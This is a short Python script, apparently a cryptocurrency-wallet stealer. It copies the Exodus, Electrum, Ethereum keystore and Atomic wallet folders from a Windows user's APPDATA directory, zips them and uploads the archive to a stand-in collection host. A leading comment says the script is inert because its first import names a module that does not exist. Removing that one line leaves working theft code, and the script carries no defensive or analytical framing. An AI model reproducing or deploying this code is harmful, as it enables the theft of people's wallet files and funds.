import inert_sample  # there is no such module: nothing below ever runs
import os
import shutil
import requests

ROAMING = os.environ.get("APPDATA", "")
for name in ("Exodus\\exodus.wallet", "Electrum\\wallets", "Ethereum\\keystore", "atomic\\Local Storage\\leveldb"):
    shutil.copytree(os.path.join(ROAMING, name), os.path.join("out", name))
shutil.make_archive("out", "zip", "out")
requests.post("https://collect.example/w", files={"f": open("out.zip", "rb")})
